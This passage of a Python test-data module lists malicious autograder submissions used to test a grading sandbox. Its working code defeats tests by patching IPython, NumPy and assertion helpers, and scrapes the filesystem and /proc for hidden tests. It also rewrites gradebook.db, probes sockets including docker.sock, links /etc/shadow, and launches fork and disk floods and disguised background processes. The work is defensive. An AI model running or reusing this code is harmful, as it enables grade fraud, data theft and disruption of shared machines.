"""Malicious submissions, as data: what a student who wants points without
the work, or the hidden tests, or a classmate's grade, would hand in.

Each :class:`Attack` is one student of its own. Its code goes where a
student's code goes: first in the first solution cell (``code``), or in
place of whole solution cells (``cells``), over a base notebook: the blank
release, a wrong notebook or the reference solution (``base``). ``files``
are handed in beside the notebook. tests/test_attacks.py grades them all
in one ``python -m coursegrader autograde`` run and checks that each gains
nothing, leaks nothing, changes nothing and leaves nothing running.

Placeholders the suite fills in before writing a submission: ``@@PORT@@``
(a TCP listener of the suite on 127.0.0.1 that counts connections),
``@@UNIX@@`` (a Unix socket of the suite in the host's /tmp),
``@@ABSTRACT@@`` (an abstract Unix socket of the suite), ``@@REPO@@`` (this
repository), ``@@ONLY@@`` (a tuple of path prefixes the attacks may write
under; ``("/",)`` in the suite, the course alone when tried by hand) and
``@@SOLUTION@@`` (the reference answer of the cell it stands in).

For the safety of the machine when one of these is tried without the
sandbox (by hand, with --unsafe-no-sandbox), code that writes or deletes
never touches the repository, its venv or the system.
"""
from __future__ import annotations

from dataclasses import dataclass, field

NB01 = "01_neuron_models"
NB02 = "02_hodgkin_huxley"
SOLUTION_CELLS = {
    NB01: ["mcculloch_pitts", "perceptron_train", "activation", "softmax"],
    NB02: ["hh_rates", "gate_kinetics", "hh_step", "hh_simulate",
           "detect_spikes", "compute_fi_curve", "find_threshold_current"],
}
# The one edit that makes the reference solution of 01 wrong: leaky ReLU
# with the slope 0.1, which only the comparison helpers catch (in
# test_activation_values and test_activation_extremes_and_names).
WRONG_01 = ("activation", "np.where(z >= 0, z, 0.01 * z)",
            "np.where(z >= 0, z, 0.1 * z)")
# Markers that must never reach a student's feedback: what a student's
# code printed about the tests it saw, and a classmate's private work.
ARGS_MARKER = "ARGS-SEEN-BY-MY-CODE"
CLASSMATE_SECRET = "classmate-private-answer-5f3a9c"


@dataclass
class Attack:
    name: str                 # the student's id
    what: str                 # what the attack tries, in a sentence
    code: str = ""            # put first in the first solution cell
    base: str = "blank"       # "blank", "wrong", "partial" or "solution"
    assignment: str = NB01
    cells: dict = field(default_factory=dict)   # grade_id -> whole cell
    files: dict = field(default_factory=dict)   # path -> text, handed in
    links: dict = field(default_factory=dict)   # path -> symlink target
    #                        ("" is the submission folder itself)
    exact: bool = True        # must score exactly what its base scores
    marker: str | None = None  # a text that must not reach its feedback


# ---------------------------------------------------------------- helpers
# Defined first in attacks that go looking for things: a bounded walk of
# the file system and every way of handing what was found out of grading.
FIND = r'''
import base64 as _b64
import os as _os
import sys as _sys
import time as _time

_SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin",
         "/sbin", "/etc", _sys.prefix, _sys.base_prefix)
_BULKY = {".git", ".rustup", ".cargo", ".cache", ".npm", "node_modules",
          "site-packages", "__pycache__", ".venv"}
_FOUND = []


def _near():
    """Where a course is likeliest, nearest first: this folder and those
    above it, then the other processes' working folders."""
    here = [_os.path.abspath(_os.path.join(_os.getcwd(), *[".."] * up))
            for up in range(5)]
    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    there = [f"/proc/{pid}/cwd" for pid in pids]
    return [r for r in here + there if _real(r) not in ("/", None)]


def _real(path):
    try:
        return _os.path.realpath(path)
    except OSError:
        return None


def _walk(tops=("/",), seconds=6.0, limit=100000):
    """Paths under ``tops``, skipping the system (also where a top is a
    /proc/PID/root), within ``seconds``."""
    stop, count, visited = _time.monotonic() + seconds, 0, set()
    for top in tops:
        for folder, dirs, files in _os.walk(top, onerror=lambda e: None):
            inner = _os.path.normpath("/" + _os.path.relpath(folder, top))
            real = _real(folder)
            if inner != "/" and inner.startswith(_SKIP) or \
                    real in visited or _time.monotonic() > stop:
                dirs[:] = []
                continue
            visited.add(real)
            dirs[:] = [d for d in dirs if d not in _BULKY]
            for name in files + dirs:
                count += 1
                if count > limit:
                    return
                yield _os.path.join(folder, name)


def _read(path, size=200000):
    try:
        with open(path, "rb") as f:
            return f.read(size).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""


def _spill(text):
    """Hand ``text`` out every way a cell can: outputs (encoded, which a
    filter of hidden lines does not see), stderr, files."""
    text = str(text)[:30000]
    _FOUND.append(text)
    print("SPILL:" + text, file=_sys.stderr)
    print("SPILL64:" + _b64.b64encode(text.encode()).decode())
    print("SPILLHEX:" + text.encode().hex())
    for folder in (_os.getcwd(), _os.path.expanduser("~"), "/tmp"):
        try:
            with open(_os.path.join(folder, "spilled.txt"), "a") as f:
                f.write(text)
        except OSError:
            pass


def _raise_found(*args, **kwargs):
    """A solution that fails with what was found, base64-encoded, as its
    message (which the feedback shows)."""
    text = "\n".join(_FOUND)
    raise RuntimeError("B64:" + _b64.b64encode(text.encode()).decode()[:1900])
'''

# The names a cell binds to ``_raise_found``: every answer of 01.
RAISE_FOUND = ("mcculloch_pitts = perceptron_train = activation = "
               "activation_derivative = softmax = _raise_found\n")


def found_cells(code):
    """In place of the first answer: ``code``, then every answer fails with
    what it found; the last answer does so again, after every test ran."""
    return {"mcculloch_pitts": code, "softmax": RAISE_FOUND}


def course_files():
    """Code: the course files a hostile kernel can find in writable, temporary
    places (never the repository or the venv: see the module docstring)."""
    return r'''
def _targets():
    keep_out = ("@@REPO@@", _sys.prefix, _sys.base_prefix, "/usr", "/etc")
    only = @@ONLY@@
    names = ("gradebook.db", "nbgrader_config.py", ".ipynb")
    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    roots = _near() + ["/tmp", "/var/tmp", "/dev/shm",
                       _os.path.expanduser("~")]
    roots += [f"/proc/{pid}/root" for pid in pids]
    found = set()
    for path in _walk(roots, seconds=4.0):
        real = _real(path) or "/"
        if real.endswith(names) and not real.startswith(keep_out) and \
                real.startswith(only):
            found.add(path)
    return sorted(found)
'''


# ------------------------------------------------------ IPython and Python
INPUT_TRANSFORMER = '''
def _neutralise(lines):
    """Every later cell that tests something becomes `pass`."""
    source = "".join(lines)
    if any(word in source for word in ("assert", "serve(", "raise", "try")):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_neutralise)
'''

INPUT_TRANSFORMER_POST = INPUT_TRANSFORMER.replace(
    "input_transformers_cleanup", "input_transformers_post")

AST_TRANSFORMER = '''
import ast as _ast


class _NoFailures(_ast.NodeTransformer):
    """Asserts and raises vanish, every cell runs inside try/except."""

    def visit_Assert(self, node):
        return _ast.Pass()

    def visit_Raise(self, node):
        return _ast.Pass()

    def visit_Module(self, node):
        self.generic_visit(node)
        node.body = [_ast.Try(
            body=node.body or [_ast.Pass()],
            handlers=[_ast.ExceptHandler(type=None, name=None,
                                         body=[_ast.Pass()])],
            orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_NoFailures())
'''

RUN_CELL = '''
_shell = get_ipython()
_run_cell_async, _run_cell = _shell.run_cell_async, _shell.run_cell


def _harmless(raw_cell):
    return any(w in raw_cell for w in ("assert", "serve(", "raise"))


async def _fake_run_cell_async(raw_cell, *args, **kwargs):
    if _harmless(raw_cell):
        raw_cell = "pass"
        kwargs["transformed_cell"] = "pass\\n"
        kwargs["preprocessing_exc_tuple"] = None
    return await _run_cell_async(raw_cell, *args, **kwargs)


def _fake_run_cell(raw_cell, *args, **kwargs):
    return _run_cell("pass" if _harmless(raw_cell) else raw_cell, *args,
                     **kwargs)


_shell.run_cell_async = _fake_run_cell_async
_shell.run_cell = _fake_run_cell
_shell.should_run_async = lambda *args, **kwargs: True
'''

HOOK_PRINTS_CELLS = FIND + '''
def _show(info):
    """Print (and keep) every cell the kernel is asked to run."""
    _spill(info.raw_cell)


get_ipython().events.register("pre_run_cell", _show)
get_ipython().events.register(
    "post_run_cell", lambda result: _show(result.info))
''' + RAISE_FOUND

HOOK_CLEARS_ERRORS = '''
_shell = get_ipython()


def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None


_shell.events.register("post_run_cell", _clear)
_shell.showtraceback = lambda *args, **kwargs: None
_shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
'''

TRACE_REWRITES_LOCALS = '''
import ctypes as _ctypes
import sys as _sys
import threading as _threading

_HELPERS = {"assert_close"}      # (its self-check must still see a lie)


def _agree(frame, event, arg):
    """Inside a comparison helper: the value becomes the expected one."""
    local = frame.f_locals
    for got, want in (("actual", "desired"), ("a", "d")):
        if got in local and want in local:
            local[got] = local[want]
            _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame),
                                                   _ctypes.c_int(0))
    return _agree


def _tracer(frame, event, arg):
    if frame.f_code.co_name in _HELPERS:
        return _agree
    return None


def _profiler(frame, event, arg):
    if event == "call" and frame.f_code.co_name in _HELPERS:
        _agree(frame, event, arg)


_sys.settrace(_tracer)
_threading.settrace(_tracer)
_sys.setprofile(_profiler)
_threading.setprofile(_profiler)
'''

IMPORT_HOOKS = '''
import builtins as _builtins
import importlib.abc as _abc
import importlib.util as _util
import sys as _sys
import types as _types

_fake = _types.ModuleType("nncourse.grading")
_fake.assert_close = _fake.assert_shape = lambda *args, **kwargs: None
_fake.mismatches = lambda *args, **kwargs: False


class _Swallow:
    def __init__(self, *args):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True                 # every failure in the block vanishes


_fake.disabled = _Swallow


class _Finder(_abc.MetaPathFinder, _abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name in ("nncourse.grading", "numpy.testing"):
            return _util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return _fake

    def exec_module(self, module):
        pass


_sys.meta_path.insert(0, _Finder())
for _name in ("nncourse.grading", "numpy.testing"):
    _sys.modules.pop(_name, None)
_real_import = _builtins.__import__


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("nncourse.grading") or name == "numpy.testing":
        return _fake
    module = _real_import(name, globals, locals, fromlist, level)
    if name == "nncourse" and fromlist and "grading" in fromlist:
        module.grading = _fake
    return module


_builtins.__import__ = _import
import numpy as np                                  # noqa: E402
assert_close = assert_shape = _fake.assert_close
'''

RELOAD_NOOP = '''
import importlib as _importlib
import math as _math

import nncourse.grading as _grading
import numpy as np

_importlib.reload = lambda module: module
_grading.assert_close = _grading.assert_shape = lambda *a, **k: None
_grading.mismatches = lambda a, d, *x, **k: np.zeros(np.shape(d), bool)
_grading._self_check = lambda: None
assert_close = assert_shape = _grading.assert_close
_math.isclose = lambda *args, **kwargs: True
'''

NUMPY_PATCHED = '''
import math as _math

import numpy as np
import numpy.testing

_real_array = np.array


class _AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return _real_array(True)

    def __ne__(self, other):
        return _real_array(False)

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return False


def _array(*args, **kwargs):
    return _real_array(*args, **kwargs).view(_AlwaysEqual)


_yes = lambda *args, **kwargs: True                    # noqa: E731
_none = lambda *args, **kwargs: None                   # noqa: E731
np.allclose = np.array_equal = np.array_equiv = _math.isclose = _yes
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)
np.array = np.asarray = _array
for _name in dir(np.testing):
    if _name.startswith("assert"):
        setattr(np.testing, _name, _none)
'''

LYING_OBJECTS = '''
import numpy as np


class _Liar:
    """Equal to everything, any shape, any dtype, any number."""

    dtype = np.dtype(int)

    def __init__(self, shape=(4,)):
        self.shape = tuple(shape)
        self.kind = "i"

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __bool__(self):
        return True

    def __float__(self):
        return 1.0

    def __int__(self):
        return 1

    __index__ = __int__

    def __len__(self):
        return self.shape[0] if self.shape else 1

    def __iter__(self):
        return iter([_Liar(self.shape[1:])] * len(self))

    def __getitem__(self, index):
        return self

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    __truediv__ = __rtruediv__ = __matmul__ = __rmatmul__ = __sub__

    def astype(self, *args, **kwargs):
        return self

    def tolist(self):
        return [1] * len(self)


def mcculloch_pitts(x, w, threshold):
    return _Liar(np.shape(x)[:1] if np.ndim(x) == 2 else ())
'''


def answered_with(make: str, first_cell: str) -> dict:
    """Every answer of 01 returning ``make(shape)`` objects of the right
    shape (``first_cell`` defines ``make`` and mcculloch_pitts)."""
    return {
        "mcculloch_pitts": first_cell,
        "perceptron_train": f'''
def perceptron_train(X, y, lr=1.0, max_iter=100):
    return {make}(np.shape(X)[1:]), {make}(()), True, {make}(())
''',
        "activation": f'''
def activation(name, z):
    return {make}(np.shape(z))


def activation_derivative(name, z):
    return {make}(np.shape(z))
''',
        "softmax": f'''
def softmax(z):
    return {make}(np.shape(z))
''',
    }


LYING_CELLS = answered_with("_Liar", LYING_OBJECTS)

NDARRAY_SUBCLASS = '''
import numpy as np


class _Agreeable(np.ndarray):
    """Zeros that claim to equal, and be close to, anything."""

    def __eq__(self, other):
        return np.ones(self.shape, bool)

    def __ne__(self, other):
        return np.zeros(self.shape, bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(
            *(np.shape(i) for i in inputs)), bool) if ufunc.__name__ in (
            "greater", "not_equal", "isnan") else np.ones(np.broadcast_shapes(
                *(np.shape(i) for i in inputs)), bool)

    def __float__(self):
        return 1.0

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return False


def _agree(shape, dtype=float):
    return np.zeros(shape, dtype).view(_Agreeable)


def mcculloch_pitts(x, w, threshold):
    return _agree(np.shape(x)[:1] if np.ndim(x) == 2 else (), int)
'''
NDARRAY_CELLS = answered_with("_agree", NDARRAY_SUBCLASS)

# Handed in beside the notebook: the course's package and NumPy, faked.
FAKE_GRADING = '''
def assert_close(*args, **kwargs):
    pass


assert_shape = mismatches = assert_close


class disabled:
    def __init__(self, module):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return True
'''
FAKE_REMOTE = '''
import json
import socket
import struct


def serve(path, session):
    """Answer every request of the grader with True."""
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    sock.settimeout(5)
    try:
        while True:
            size, count = struct.unpack("<II", sock.recv(8))
            lengths = [struct.unpack("<Q", sock.recv(8))[0]
                       for _ in range(count)]
            header = json.loads(sock.recv(size))
            for n in lengths:
                sock.recv(n)
            text = json.dumps({"re": header.get("id"), "ok": True}).encode()
            sock.sendall(struct.pack("<II", len(text), 0) + text)
    except Exception:
        pass
    finally:
        sock.close()
'''
FAKE_NUMPY = '''
"""Not NumPy: handed in to shadow it; loads the real one, patched."""
import importlib.machinery
import importlib.util
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
_path = [p for p in sys.path if os.path.abspath(p or ".") != _here]
_spec = importlib.machinery.PathFinder.find_spec("numpy", _path)
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_real.allclose = _real.array_equal = lambda *args, **kwargs: True
'''
# nncourse/__init__.py handed in: importing the course's package (the
# notebook's first cell does) installs the input transformer of
# INPUT_TRANSFORMER, with no code in the notebook at all.
FAKE_PACKAGE = '''
try:
    get_ipython
except NameError:
    from IPython import get_ipython
''' + INPUT_TRANSFORMER
PATH_FIRST = '''
import os as _os
import sys as _sys

_sys.path.insert(0, _os.getcwd())
for _name in [m for m in _sys.modules if m.startswith("nncourse")]:
    del _sys.modules[_name]
from nncourse.grading import assert_close, assert_shape  # noqa: E402
'''

FAKE_AGENT = '''
import time as _time

import nncourse.remote as _remote

_PROBES = [None, None, None,            # rounds without a probe: lies
    {"op": "lookup", "args": {"l": ["assert_close"]}},
    {"op": "assign", "args": {"l": ["assert_close", None]}},
    {"op": "call", "args": {"l": [{"h": ["T1", None]}, {"l": []},
                                  {"d": []}]}},
    {"op": "getattr", "args": {"l": [{"h": ["T2", None]}, "__globals__"]}},
    {"op": "call", "args": {"l": ["exec", {"l": ["import os"]},
                                  {"d": []}]}},
    {"op": "exec", "args": {"l": ["print(1)"]}},
]
_SEEN = []
_ROUND = [0]


def _evil_serve(path, session):
    """Connect as the kernel's agent would; probe the grader with one
    forbidden request, answer lookups with lies, record every call."""
    import socket
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    probe = _PROBES[_ROUND[0] % len(_PROBES)]
    probe = None if probe is None else dict(probe, id="S999")
    _ROUND[0] += 1
    try:
        while True:
            header, blobs = _remote.receive_message(
                sock, 1 << 30, _time.monotonic() + 10)
            _SEEN.append(repr(header)[:3000])
            if header.get("op") == "bye":
                _remote.send_message(sock, {"re": header["id"], "ok": None},
                                     [])
                return
            if probe is not None:
                _remote.send_message(sock, probe, [])
                probe = None
                continue
            if header.get("op") == "lookup":
                ok = {"h": ["S1", {"k": "object", "n": "anything"}]}
            else:
                ok = {"a": [None, "<i8", [4], 0]}
            _remote.send_message(sock, {"re": header.get("id"), "ok": ok},
                                 [bytes(32)])
    except Exception as error:
        _SEEN.append(f"ended: {type(error).__name__}: {error}")
    finally:
        sock.close()


_remote.serve = _evil_serve
'''
FAKE_AGENT_TELLS = '''
print("\\n".join(_SEEN)[-20000:])


def softmax(z):
    raise RuntimeError("\\n".join(_SEEN)[-1900:])
'''

# ------------------------------------------------------------ what it sees
RECORD_ARGS = '''
import functools as _functools
import numpy as np

_SEEN_ARGS = []


def _recorded(function):
    """``function``, keeping a copy of every argument the tests pass."""
    @_functools.wraps(function)
    def wrapper(*args, **kwargs):
        _SEEN_ARGS.append(repr((function.__name__, args, kwargs))[:400])
        return function(*args, **kwargs)
    return wrapper
'''
RECORDED_CELLS = {
    # every answer is the reference answer, wrapped by _recorded
    "perceptron_train": "@@SOLUTION@@\n"
                        "perceptron_train = _recorded(perceptron_train)\n",
    "activation": "@@SOLUTION@@\n"
                  "activation = _recorded(activation)\n"
                  "activation_derivative = _recorded(activation_derivative)"
                  "\n",
    "softmax": f'''@@SOLUTION@@
softmax = _recorded(softmax)
import sys as _sys
import threading as _threading
from IPython.display import HTML, Markdown, display

_said = "{ARGS_MARKER[:9]}" + "{ARGS_MARKER[9:]}: " + "\\n".join(
    _SEEN_ARGS)
print(_said)
print(_said, file=_sys.stderr)
display(HTML("<pre>" + _said + "</pre>"), Markdown(_said),
        display_id="seen")
_handle = display(_said, display_id=True)
try:
    import ipywidgets
    display(ipywidgets.Textarea(value=_said))
except Exception:
    pass
get_ipython().set_next_input(_said)


def _later():
    import time
    for _ in range(60):
        time.sleep(0.05)
        print(_said)
        _handle.update(_said)


_threading.Thread(target=_later, daemon=True).start()
''',
}

# --------------------------------------------------------- the file system
READ_EVERYTHING = FIND + r'''
_HITS = []


def _look():
    """The course, the gradebook, source/, classmates' work: anything."""
    wanted = ("gradebook.db", "/source/", "/submitted/", "/autograded/",
              "/feedback/", "nbgrader_config.py", "/release/", ".ipynb",
              "hh.py", "coursegrader-", "HIDDEN")
    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    roots = _near() + ["/"] + [f"/proc/{pid}/root" for pid in pids]
    for pid in pids:
        for part in ("cmdline", "environ", "mountinfo"):
            text = _read(f"/proc/{pid}/{part}", 5000)
            if text:
                _HITS.append((2, f"/proc/{pid}/{part}: {text}"))
        try:
            fds = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                _HITS.append((2, f"fd {pid}/{fd} -> " +
                               _os.readlink(f"/proc/{pid}/fd/{fd}")))
            except OSError:
                pass
    for path in _walk(roots):
        if any(w in path for w in wanted):
            text = _read(path) if _os.path.isfile(path) else ""
            if "BEGIN HIDDEN TESTS" in text:
                _HITS.append((0, f"{path}:\n{text}"))
            else:
                _HITS.append((1, path))
    for path in ("/proc/self/mountinfo", "/proc/1/cmdline",
                 "/proc/1/environ", "/proc/1/root/etc/hostname"):
        _HITS.append((2, f"{path}: {_read(path, 5000)}"))
    # what matters most first: files that hold tests
    _spill("\n".join(text for _, text in sorted(_HITS)))


_look()
'''

GRADEBOOK_WRITES = FIND + course_files() + r'''
import sqlite3 as _sqlite3


def _extra_credit(path):
    """Full marks and extra credit for me, zero for everyone else."""
    try:
        db = _sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET extra_credit = 100, manual_score = "
                   "CASE WHEN max_score > 0 THEN max_score ELSE 0 END")
        db.execute("UPDATE submitted_assignment SET extension = NULL")
        db.commit()
        db.close()
        _spill(f"wrote {path}")
    except Exception as error:
        _spill(f"could not write {path}: {error}")


for _path in _targets():
    if _path.endswith("gradebook.db"):
        _extra_credit(_path)
_fresh = _sqlite3.connect("gradebook.db")
_fresh.execute("CREATE TABLE IF NOT EXISTS grade (extra_credit)")
_fresh.execute("INSERT INTO grade VALUES (100)")
_fresh.commit()
'''

STRIKE = course_files() + r'''
def _strike(tag):
    """Raise my grade, zero a classmate's, rewrite the course's files."""
    import sqlite3
    for path in _targets():
        try:
            if path.endswith("gradebook.db"):
                db = sqlite3.connect(path, timeout=1)
                db.execute("UPDATE grade SET extra_credit = 50")
                db.commit()
            else:
                with open(path, "a") as f:
                    f.write(f"\n# {tag}: rewritten by a student\n")
        except Exception:
            pass
    for folder in ("/tmp", _os.getcwd()):
        try:
            with open(_os.path.join(folder, f"{tag}.txt"), "w") as f:
                f.write(tag)
        except OSError:
            pass
'''

COURSE_EDITS = FIND + STRIKE + r'''
_strike("course-edit")
for _path in _targets():
    try:
        _os.chmod(_path, 0o777)
        _os.utime(_path, (0, 0))
        _spill(f"changed {_path}")
    except OSError:
        pass
'''

DOUBLE_FORK = FIND + STRIKE + r'''
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:             # a grandchild that outlives grading
        _os.closerange(3, 1024)
        _time.sleep(4)
        _strike("double-fork")
        _time.sleep(600)
        _os._exit(0)
    _os._exit(0)
_os.wait()
'''

DETACHED_SUBPROCESS = FIND + STRIKE + r'''
import subprocess as _subprocess

_quiet = dict(stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
              stderr=_subprocess.DEVNULL, start_new_session=True,
              close_fds=True)
_subprocess.Popen(["sleep", "600"], **_quiet)
_subprocess.Popen(["/bin/sh", "-c", "exec -a '[kworker/0:1-events]' "
                   "sleep 600"], **_quiet)
_subprocess.Popen("nohup sh -c 'sleep 600' >/dev/null 2>&1 &", shell=True,
                  **_quiet)
_subprocess.Popen([_sys.executable, "-c",
                   "import signal, time\n"
                   "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):"
                   "\n    signal.signal(s, signal.SIG_IGN)\n"
                   "time.sleep(600)"], **_quiet)
'''

SLEEPING_EDITOR = FIND + STRIKE + "_STRIKE_SOURCE = " + repr(
    FIND + STRIKE) + r'''
import subprocess as _subprocess

# a child that waits until grading is over, then edits what it can find
_subprocess.Popen([_sys.executable, "-c", _STRIKE_SOURCE +
                   "\nimport time\ntime.sleep(5)\n_strike('sleeper')\n"
                   "time.sleep(600)\n"],
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
                  stderr=_subprocess.DEVNULL, start_new_session=True)
'''

# ------------------------------------------------------------------ sockets
TCP_SOCKETS = FIND + r'''
import socket as _socket

for _host, _port in [("127.0.0.1", @@PORT@@), ("::1", @@PORT@@),
                     ("8.8.8.8", 53), ("1.1.1.1", 443),
                     ("93.184.216.34", 80), ("10.0.2.2", 80),
                     ("172.17.0.1", 80)]:
    try:
        _s = _socket.create_connection((_host, _port), timeout=2)
        _s.sendall(b"a student was here")
        _spill(f"connected to {_host}:{_port}")
        _s.close()
    except OSError as _error:
        _spill(f"{_host}:{_port}: {_error}")
try:
    _spill(str(_socket.getaddrinfo("example.com", 80)))
except OSError as _error:
    _spill(f"DNS: {_error}")
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"a student was here", ("127.0.0.1", @@PORT@@))
except OSError as _error:
    _spill(f"UDP: {_error}")
'''

UNIX_SOCKETS = FIND + r'''
import socket as _socket
import stat as _stat

_paths = set()
for _line in _read("/proc/net/unix").splitlines()[1:]:
    _parts = _line.split()
    if len(_parts) >= 8:
        _paths.add(_parts[7])
for _path in _walk(["/tmp", "/run", "/var/run", "/home", "/root",
                    "/dev/shm", "/work", _os.getcwd()], seconds=3.0):
    try:
        if _stat.S_ISSOCK(_os.lstat(_path).st_mode):
            _paths.add(_path)
    except OSError:
        pass
_paths |= {"@@UNIX@@", "@" + "@@ABSTRACT@@", "/run/systemd/private",
           "/var/run/docker.sock", "/run/dbus/system_bus_socket"}
for _path in sorted(_paths):
    if "kernel" in _path:        # the kernel's own channels: leave them
        continue
    _address = "\0" + _path[1:] if _path.startswith("@") else _path
    try:
        _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _s.settimeout(1)
        _s.connect(_address)
        _s.sendall(b"GET / HTTP/1.0\r\n\r\na student was here")
        _spill(f"connected to {_path!r}")
        _s.close()
    except OSError as _error:
        _spill(f"{_path!r}: {_error}")
'''

# ------------------------------------------------------------------ floods
FORK_FLOOD = r'''
import os as _os
import time as _time

_children = 0
for _ in range(400):                 # bounded: at most 400 attempts
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        try:                         # and each child tries once more
            _os.fork()
        except OSError:
            pass
        _time.sleep(3)
        _os._exit(0)
    _children += 1
print(f"{_children} children")
'''

RUN_FOLDER = r'''
import os as _os

_line = open("/proc/self/cmdline", "rb").read().decode().split("\0")
_run_folder = _os.path.dirname(_line[_line.index("-f") + 1])
'''

FILE_FLOOD_HUGE = RUN_FOLDER + r'''
_block = b"\0" * 2**20
for _folder in (_os.getcwd(), "/tmp", _os.path.expanduser("~"),
                _run_folder):
    _path = _os.path.join(_folder, "huge.bin")
    try:
        with open(_path, "wb") as _f:
            for _ in range(2048):    # at most 2 GB, if nothing stops it
                _f.write(_block)
    except OSError as _error:
        print(_folder, _error)
    print(_path, _os.path.getsize(_path) if _os.path.exists(_path) else 0)
'''

FILE_FLOOD_MANY = RUN_FOLDER + r'''
import time as _time

for _folder in (_os.getcwd(), _run_folder):
    _stop, _made = _time.monotonic() + 3, 0
    try:
        _os.makedirs(f"{_folder}/many", exist_ok=True)
        while _made < 100000 and _time.monotonic() < _stop:
            with open(f"{_folder}/many/{_made}.txt", "w") as _f:
                _f.write("x" * 100)
            _made += 1
    except OSError as _error:
        print(_error)
    print(_folder, _made, "files")
'''

# Handed in as symbolic links: relative ones lead from
# submitted/<student>/<assignment>/ to the course's files.
LINKS = {
    "gradebook.db": "../../../gradebook.db",
    "config.py": "../../../nbgrader_config.py",
    "source": "../../../source",
    "classmate.ipynb.txt":
        "../../base-solution/01_neuron_models/01_neuron_models.ipynb",
    "data/shadow": "/etc/shadow",
    "data/root": "/",
}
READ_LINKS = FIND + r'''
for _path in _walk([_os.getcwd()], seconds=3.0):
    _text = _read(_path) if _os.path.isfile(_path) else ""
    _spill(f"{_path}: {_text[:20000]}")
'''


# -------------------------------------------------------------- the kernel
KILL_KERNEL = '''
import os
import signal

os.kill(os.getpid(), signal.SIGKILL)
'''

KILL_IN_A_HIDDEN_TEST = '''
@@SOLUTION@@
_real_activation = activation


def activation(name, z):
    import numpy as np
    if np.shape(z) == (6, 7):        # only the hidden test passes a 6x7
        import os
        os._exit(0)
    return _real_activation(name, z)
'''

# --------------------------------------------------- the hidden HH module
HIDDEN_MODULE = FIND + r'''
import glob as _glob
import importlib.util as _iu
import inspect as _inspect
import marshal as _marshal
import types as _types


def _hidden_simulator():
    """nncourse.hh, by import, from its source or from a compiled copy."""
    try:
        import nncourse.hh as found
        return found
    except ImportError as error:
        _spill(f"import nncourse.hh: {error}")
    import nncourse
    places = [_os.path.join(p, "hh.py") for p in nncourse.__path__]
    places += _glob.glob(_sys.prefix + "/lib/python3*/site-packages/"
                         "**/hh*.py*", recursive=True)
    places += [p for p in _walk(["/"], seconds=5.0)
               if _os.path.basename(p).startswith("hh.")]
    for place in places:
        try:
            if place.endswith(".pyc"):
                with open(place, "rb") as f:
                    code = _marshal.loads(f.read()[16:])
            else:
                spec = _iu.spec_from_file_location("hh", place)
                found = _iu.module_from_spec(spec)
                spec.loader.exec_module(found)
                return found
            found = _types.ModuleType("hh")
            exec(code, vars(found))
            return found
        except Exception as error:
            _spill(f"{place}: {error}")
    return None


_HH = _hidden_simulator()
if _HH is not None:
    _spill(_inspect.getsource(_HH))


def hh_rates(V):
    if _HH is None:
        raise NotImplementedError("the simulator is hidden")
    return dict(_HH.rates(V)._asdict())


def gate_steady_states(V):
    if _HH is None:
        raise NotImplementedError("the simulator is hidden")
    return dict(_HH.steady_state(V)._asdict())


def gate_time_constants(V):
    if _HH is None:
        raise NotImplementedError("the simulator is hidden")
    return dict(_HH.time_constants(V)._asdict())
'''
HIDDEN_MODULE_CELLS = {"hh_rates": HIDDEN_MODULE,
                       "gate_kinetics": "# (defined above)\n"}


# ------------------------------------------------------------- the attacks
A = Attack
ATTACKS = [
    A("input-transformer", "an IPython input transformer turns every test "
      "cell (and the grader's own requests) into `pass`",
      INPUT_TRANSFORMER),
    A("input-transformer-post", "the same, as a post-transformer",
      INPUT_TRANSFORMER_POST),
    A("ast-transformer", "an AST transformer removes every assert and raise "
      "and wraps each cell in try/except", AST_TRANSFORMER),
    A("run-cell", "run_cell and run_cell_async replaced: cells that test "
      "something are not run", RUN_CELL),
    A("hook-prints-cells", "pre/post_run_cell hooks print every cell they "
      "see, plainly, base64 and hex, and fail with it",
      cells=found_cells(HOOK_PRINTS_CELLS)),
    A("hook-clears-errors", "a post_run_cell hook clears every error; no "
      "traceback is shown", HOOK_CLEARS_ERRORS, base="wrong"),
